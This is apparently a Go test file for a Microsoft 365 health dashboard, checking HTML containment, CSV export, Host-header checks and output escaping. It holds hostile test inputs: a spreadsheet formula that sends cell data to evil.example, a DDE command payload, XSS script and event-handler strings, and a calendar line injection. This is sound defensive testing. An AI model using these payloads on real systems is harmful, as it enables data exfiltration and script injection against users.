package serve_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	nethtml "golang.org/x/net/html"

	"github.com/mmcdole/gofeed"
	"github.com/shdmc/shdmc/internal/model"
	"github.com/shdmc/shdmc/internal/serve"
	"github.com/shdmc/shdmc/internal/store"
)

// smallStore is a SQLite store with one tenant's items, written directly
// (no demo run): quick enough for tests of hostile item data.
func smallStore(t *testing.T, items ...store.Item) store.Store {
	t.Helper()
	st, err := store.Open(t.Context(), "sqlite://"+filepath.Join(t.TempDir(), "shdmc.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	bySource := map[model.Source][]store.Item{}
	for _, it := range items {
		bySource[it.Key.Source] = append(bySource[it.Key.Source], it)
	}
	for src, its := range bySource {
		if _, err := st.Commit(t.Context(), store.Batch{Tenant: "t1", Source: src, Items: its}); err != nil {
			t.Fatal(err)
		}
	}
	return st
}

// mcItem is a Message Center item of tenant t1.
func mcItem(id, title, body string) store.Item {
	now := time.Now().UTC().Truncate(time.Second)
	b, _ := json.Marshal(model.Message{ID: id, Title: title, Category: model.CategoryPlanForChange, Severity: model.SeverityHigh,
		Services: []string{"Microsoft Teams"}, Start: now.AddDate(0, 0, -1), LastModified: now, BodyType: "html", Body: body})
	return store.Item{Key: model.ItemKey{Tenant: "t1", Source: model.SourceMC, ID: id}, Revision: 1, Hash: id, LastModified: now, Data: b}
}

// issueItem is an active incident of tenant t1 with one post.
func issueItem(id, title, post string) store.Item {
	now := time.Now().UTC().Truncate(time.Second)
	b, _ := json.Marshal(model.Issue{ID: id, Title: title, Service: "Exchange Online", Classification: model.ClassificationIncident,
		Status: model.StatusInvestigating, Start: now.Add(-time.Hour), LastModified: now,
		Posts: []model.Post{{Created: now.Add(-time.Hour), Type: model.PostRegular, ContentType: "html", Content: post}}})
	return store.Item{Key: model.ItemKey{Tenant: "t1", Source: model.SourceSHD, ID: id}, Revision: 1, Hash: id, LastModified: now, Data: b}
}

func findNode(n *nethtml.Node, ok func(*nethtml.Node) bool) *nethtml.Node {
	if n.Type == nethtml.ElementNode && ok(n) {
		return n
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if f := findNode(c, ok); f != nil {
			return f
		}
	}
	return nil
}

func nodeAttr(n *nethtml.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// ancestors names the elements above n, nearest first ("main>body>html").
func ancestors(n *nethtml.Node) string {
	var out []string
	for p := n.Parent; p != nil && p.Type == nethtml.ElementNode; p = p.Parent {
		out = append(out, p.Data)
	}
	return strings.Join(out, ">")
}

// TestUnbalancedHTMLStaysInside renders pages whose Microsoft HTML leaves
// elements open or closes ones it never opened, parses each page as a
// browser would, and checks that the page's own markup after the fragment
// (the next section, the footer) is where the template put it.
func TestUnbalancedHTMLStaysInside(t *testing.T) {
	bodies := []string{
		`<p>Read <a href="https://learn.microsoft.com/x">the guide`,
		`<table><tr><td>cell<td>other`,
		`<div><div><p>nested`,
		`<ul><li>one<li>two`,
		`<p>text</p></div></div></section></main></td></tr></table></body></html><p>after`,
		`<b><i>bold <a href="https://x.example/">link <table><tr><td><ul><li>deep`,
	}
	for i, body := range bodies {
		st := smallStore(t, mcItem("MC1", "Unbalanced", body), issueItem("EX1", "Unbalanced post", body))
		ts := newServer(t, st, serve.Options{})
		for _, tt := range []struct {
			path    string
			section string // id of a section after the fragment
		}{
			{"/items/t1/mc/MC1", "revisions"},
			{"/items/t1/shd/EX1", "revisions"},
			{"/", "active"},
			{"/", "grid"},
		} {
			code, _, page := get(t, ts.URL+tt.path)
			if code != http.StatusOK {
				t.Fatalf("body %d: GET %s = %d", i, tt.path, code)
			}
			root, err := nethtml.Parse(strings.NewReader(page))
			if err != nil {
				t.Fatal(err)
			}
			sec := findNode(root, func(n *nethtml.Node) bool { return nodeAttr(n, "id") == tt.section })
			if sec == nil {
				t.Errorf("body %d: GET %s: no #%s", i, tt.path, tt.section)
			} else if got := ancestors(sec); got != "main>body>html" {
				t.Errorf("body %d: GET %s: #%s is inside %s, want main>body>html", i, tt.path, tt.section, got)
			}
			foot := findNode(root, func(n *nethtml.Node) bool { return n.Data == "footer" })
			if foot == nil || ancestors(foot) != "body>html" {
				t.Errorf("body %d: GET %s: footer misplaced", i, tt.path)
			}
		}
	}
}

// TestExportNeutralizesFormulas exports items whose title and text start
// with what a spreadsheet runs as a formula: in CSV every such cell starts
// with an apostrophe; JSON keeps the values as they are.
func TestExportNeutralizesFormulas(t *testing.T) {
	titles := map[string]string{
		"MC1": `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		"MC2": `=cmd|' /C calc'!A0`,
		"MC3": "+1+2",
		"MC4": "-2+3",
		"MC5": "@SUM(1+1)",
		"MC6": "\t=1+1",
		"MC7": "\r=1+1",
		"MC8": "Plain = title",
	}
	var items []store.Item
	for id, title := range titles {
		items = append(items, mcItem(id, title, "<p>=1+1 in the body</p>"))
	}
	st := smallStore(t, items...)
	var b bytes.Buffer
	if _, err := serve.Export(t.Context(), &b, st, serve.ExportOptions{Format: "csv"}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	if len(rows) != len(titles)+1 {
		t.Fatalf("%d rows", len(rows))
	}
	for _, r := range rows[1:] {
		id, title := r[col["id"]], r[col["title"]]
		want := titles[id]
		if id != "MC8" {
			want = "'" + want
		}
		want = strings.ReplaceAll(want, "\r", "") // encoding/csv drops a lone CR with UseCRLF
		if title != want {
			t.Errorf("%s: CSV title %q, want %q", id, title, want)
		}
		if text := r[col["text"]]; text != "'=1+1 in the body" {
			t.Errorf("%s: CSV text %q", id, text)
		}
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: column %s starts a formula: %q", id, rows[0][i], cell)
			}
		}
	}
	b.Reset()
	if _, err := serve.Export(t.Context(), &b, st, serve.ExportOptions{Format: "jsonl"}); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSpace(b.String()), "\n") {
		var rec struct{ ID, Title string }
		if err := json.Unmarshal([]byte(line), &rec); err != nil {
			t.Fatal(err)
		}
		if rec.Title != titles[rec.ID] {
			t.Errorf("%s: JSON title %q, want %q", rec.ID, rec.Title, titles[rec.ID])
		}
	}
}

// getHost sends GET path to ts with the given Host header.
func getHost(t *testing.T, ts *httptest.Server, host, path string, hdr ...string) (int, string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, ts.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = host
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestHostCheck: without authentication the dashboard answers only
// requests addressed to a loopback name on its own port (a DNS-rebinding
// page sends its own name); with authentication any name.
func TestHostCheck(t *testing.T) {
	st := smallStore(t, mcItem("MC1", "Title", "<p>Body</p>"))
	open := newServer(t, st, serve.Options{})
	port := open.URL[strings.LastIndex(open.URL, ":")+1:]
	for _, tt := range []struct {
		host, path string
		want       int
	}{
		{"127.0.0.1:" + port, "/", http.StatusOK},
		{"localhost:" + port, "/", http.StatusOK},
		{"LOCALHOST:" + port, "/api/v1/items", http.StatusOK},
		{"[::1]:" + port, "/", http.StatusOK},
		{"localhost", "/", http.StatusOK},
		{"evil.example:" + port, "/", http.StatusMisdirectedRequest},
		{"evil.example", "/api/v1/items", http.StatusMisdirectedRequest},
		{"127.0.0.1.nip.io:" + port, "/", http.StatusMisdirectedRequest},
		{"localhost.evil.example:" + port, "/feeds/rss", http.StatusMisdirectedRequest},
		{"192.0.2.1:" + port, "/metrics", http.StatusMisdirectedRequest},
		{"evil.example:" + port, "/readyz", http.StatusMisdirectedRequest},
		{"localhost:1", "/", http.StatusMisdirectedRequest}, // not the port it listens on
		{"evil.example:" + port, "/healthz", http.StatusOK}, // says nothing
	} {
		code, body := getHost(t, open, tt.host, tt.path)
		if code != tt.want {
			t.Errorf("GET %s with Host %q = %d, want %d: %.200s", tt.path, tt.host, code, tt.want, body)
		}
		if code == http.StatusMisdirectedRequest && (!strings.Contains(body, "no authentication") || !strings.Contains(body, "serve.token")) {
			t.Errorf("refusal does not explain itself: %q", body)
		}
		if code == http.StatusMisdirectedRequest && strings.Contains(body, "Title") {
			t.Errorf("refusal shows data: %q", body)
		}
	}
	authed := newServer(t, st, serve.Options{Auth: serve.Auth{Token: secretToken}})
	if code, body := getHost(t, authed, "dashboard.example.org", "/", "Authorization", "Bearer "+secretToken); code != http.StatusOK {
		t.Errorf("with auth, Host dashboard.example.org = %d: %.200s", code, body)
	}
}

// TestReadyzNamesNoTenants: /readyz needs no credentials, so it names the
// stale tenants only to an authenticated client (or, without
// authentication, to one on loopback); others get a status and counts.
func TestReadyzNamesNoTenants(t *testing.T) {
	st := smallStore(t)
	for _, src := range []model.Source{model.SourceMC, model.SourceSHD} {
		if _, err := st.Commit(t.Context(), store.Batch{Tenant: "secret-tenant", Source: src, Cursor: &store.Cursor{Baselined: true}}); err != nil {
			t.Fatal(err)
		}
	}
	later := func() time.Time { return time.Now().Add(10 * time.Hour) }
	authed := newServer(t, st, serve.Options{Auth: serve.Auth{Token: secretToken}, Now: later})
	code, body := getHost(t, authed, "status.example.org", "/readyz")
	if code != http.StatusServiceUnavailable || strings.Contains(body, "secret-tenant") || !strings.Contains(body, "stale: 2 of 2 sources") {
		t.Errorf("/readyz without credentials = %d %q, want 503 with counts only", code, body)
	}
	code, body = getHost(t, authed, "status.example.org", "/readyz", "Authorization", "Bearer "+secretToken)
	if code != http.StatusServiceUnavailable || !strings.Contains(body, "secret-tenant/mc") {
		t.Errorf("/readyz with the token = %d %q, want the stale tenants named", code, body)
	}

	// Without authentication: names for a loopback client (the test
	// server), counts for any other.
	srv, err := serve.New(serve.Options{Store: st, Interval: time.Hour, Now: later})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	if code, _, body := get(t, ts.URL+"/readyz"); code != http.StatusServiceUnavailable || !strings.Contains(body, "secret-tenant/shd") {
		t.Errorf("/readyz from loopback = %d %q", code, body)
	}
	req := httptest.NewRequestWithContext(t.Context(), http.MethodGet, "/readyz", nil)
	req.Host, req.RemoteAddr = "localhost", "192.0.2.10:40000"
	rec := httptest.NewRecorder()
	srv.Handler().ServeHTTP(rec, req)
	if rec.Code != http.StatusServiceUnavailable || strings.Contains(rec.Body.String(), "secret-tenant") {
		t.Errorf("/readyz from a non-loopback client = %d %q", rec.Code, rec.Body.String())
	}
}

// TestSiteFileModes: the static site's files are readable by their owner
// only, its directories (the root included) 0700.
func TestSiteFileModes(t *testing.T) {
	st := smallStore(t, mcItem("MC1", "Title", "<p>Body</p>"), issueItem("EX1", "Incident", "Post"))
	srv, err := serve.New(serve.Options{Store: st, Interval: time.Hour})
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(t.TempDir(), "site")
	if _, err := srv.BuildSite(t.Context(), root, serve.SiteOptions{}); err != nil {
		t.Fatal(err)
	}
	n := 0
	err = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := d.Info()
		if err != nil {
			return err
		}
		want := fs.FileMode(0o600)
		if d.IsDir() {
			want = 0o700
		}
		if fi.Mode().Perm() != want {
			t.Errorf("%s has mode %#o, want %#o", path, fi.Mode().Perm(), want)
		}
		n++
		return nil
	})
	if err != nil || n < 5 {
		t.Fatalf("walked %d entries: %v", n, err)
	}
}

// TestHostileItemData puts markup, quotes, URL tricks and line breaks in
// every item field the pages show (ID, title, service, post, MC body) and
// checks each HTML page, feed, calendar and API answer: nothing arrives as
// markup, and no calendar line is injected.
func TestHostileItemData(t *testing.T) {
	const (
		evilID    = `MC1"><img src=x onerror=alert(1)>`
		evilTitle = "\"><script>alert(2)</script>\r\nBEGIN:VEVENT\r\nSUMMARY:injected"
		evilBody  = `<p>Body</p></div></main><script>alert(3)</script><a href="javascript:alert(4)">x</a>`
	)
	now := time.Now().UTC().Truncate(time.Second)
	m, _ := json.Marshal(model.Message{ID: evilID, Title: evilTitle, Category: model.CategoryPlanForChange,
		Services: []string{`<b onmouseover=alert(5)>svc</b>`}, Tags: []string{`"><svg onload=alert(6)>`},
		ActionRequiredBy: now.AddDate(0, 0, 7), Start: now, LastModified: now, BodyType: "html", Body: evilBody})
	st := smallStore(t,
		store.Item{Key: model.ItemKey{Tenant: "t1", Source: model.SourceMC, ID: evilID}, Revision: 1, Hash: "h", LastModified: now, Data: m},
		issueItem(`EX1"><script>alert(7)</script>`, evilTitle, evilBody))
	ts := newServer(t, st, serve.Options{})
	pages := []string{"/", "/messages", "/issues", "/deliveries",
		"/items/t1/mc/" + url.PathEscape(evilID), "/items/t1/shd/" + url.PathEscape(`EX1"><script>alert(7)</script>`)}
	for _, p := range pages {
		code, _, body := get(t, ts.URL+p)
		if code != http.StatusOK {
			t.Errorf("GET %s = %d", p, code)
			continue
		}
		if bad := activeMarkup(t, body); bad != "" {
			t.Errorf("GET %s: %s", p, bad)
		}
	}
	for _, p := range []string{"/feeds/rss", "/feeds/atom"} {
		_, _, body := get(t, ts.URL+p)
		f, err := gofeed.NewParser().ParseString(body)
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		if len(f.Items) != 2 {
			t.Errorf("%s: %d items", p, len(f.Items))
		}
		for _, it := range f.Items {
			if bad := activeMarkup(t, it.Description+it.Content); bad != "" { // titles are text
				t.Errorf("%s: item %q: %s", p, it.Title, bad)
			}
		}
	}
	code, _, ics := get(t, ts.URL+"/feeds/calendar.ics")
	if code != http.StatusOK {
		t.Fatalf("calendar = %d", code)
	}
	// The action date of the one message; its publication date is not an
	// event (the calendar holds only dates to act on and rollouts).
	if n := strings.Count(ics, "\r\nBEGIN:VEVENT\r\n"); n != 1 {
		t.Errorf("calendar has %d events, want 1:\n%s", n, ics)
	}
	for _, l := range strings.Split(strings.TrimSuffix(ics, "\r\n"), "\r\n") {
		if strings.HasPrefix(l, "SUMMARY:injected") || strings.ContainsAny(l, "\r\n") {
			t.Errorf("injected calendar line %q", l)
		}
	}
}

// ownScriptNode reports whether n is exactly the element of ownScript: a
// script loaded from /static/live.js with defer, no other attribute and
// no content.
func ownScriptNode(n *nethtml.Node) bool {
	if n.FirstChild != nil || len(n.Attr) != 2 {
		return false
	}
	return nodeAttr(n, "src") == "/static/live.js" && slices.ContainsFunc(n.Attr, func(a nethtml.Attribute) bool { return a.Key == "defer" && a.Val == "" })
}

// activeMarkup parses page as HTML and describes the first element that
// could run or load something: a script, frame, svg or object, an event
// handler attribute, a javascript: URL, or an image not over https.
func activeMarkup(t *testing.T, page string) string {
	t.Helper()
	root, err := nethtml.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var found string
	var walk func(*nethtml.Node)
	walk = func(n *nethtml.Node) {
		if found != "" {
			return
		}
		if n.Type == nethtml.ElementNode {
			switch n.Data {
			case "script":
				if ownScriptNode(n) {
					break // the dashboard's own refresh script (ownScript)
				}
				found = "element <" + n.Data + ">"
				return
			case "iframe", "svg", "object", "embed":
				found = "element <" + n.Data + ">"
				return
			}
			for _, a := range n.Attr {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				switch {
				case strings.HasPrefix(strings.ToLower(a.Key), "on"):
					found = "attribute " + a.Key + " on <" + n.Data + ">"
				case (a.Key == "href" || a.Key == "src" || a.Key == "action") && strings.HasPrefix(v, "javascript:"):
					found = a.Key + "=" + a.Val
				case n.Data == "img" && a.Key == "src" && !strings.HasPrefix(v, "https://"):
					found = "image " + a.Val
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
	return found
}

// TestReadyzSkipsUnpolled: a tenant the config no longer polls (disabled,
// removed) keeps its stored cursor but is not stale: /readyz is ready and
// shdmc_source_stale is 0 for it, while a polled one still counts.
func TestReadyzSkipsUnpolled(t *testing.T) {
	st := smallStore(t)
	for _, tenant := range []string{"gone", "kept"} {
		if _, err := st.Commit(t.Context(), store.Batch{Tenant: tenant, Source: model.SourceMC, Cursor: &store.Cursor{Baselined: true}}); err != nil {
			t.Fatal(err)
		}
	}
	later := func() time.Time { return time.Now().Add(10 * time.Hour) }
	only := func(keep string) func(string, model.Source) (time.Duration, bool) {
		return func(tenant string, _ model.Source) (time.Duration, bool) { return 0, tenant == keep }
	}
	ts := newServer(t, st, serve.Options{Now: later, Polled: only("kept")})
	if code, _, body := get(t, ts.URL+"/readyz"); code != http.StatusServiceUnavailable || strings.Contains(body, "gone/") || !strings.Contains(body, "kept/mc") {
		t.Errorf("/readyz = %d %q, want only kept/mc stale", code, body)
	}
	_, _, metrics := get(t, ts.URL+"/metrics")
	if !strings.Contains(metrics, `shdmc_source_stale{source="mc",tenant="gone"} 0`) || !strings.Contains(metrics, `shdmc_source_stale{source="mc",tenant="kept"} 1`) {
		t.Errorf("metrics stale lines wrong:\n%s", grepLines(metrics, "shdmc_source_stale"))
	}
	ts = newServer(t, st, serve.Options{Now: later, Polled: only("nobody")})
	if code, _, body := get(t, ts.URL+"/readyz"); code != http.StatusOK {
		t.Errorf("/readyz with nothing polled = %d %q, want ready", code, body)
	}
}

func grepLines(s, sub string) string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, sub) {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n")
}
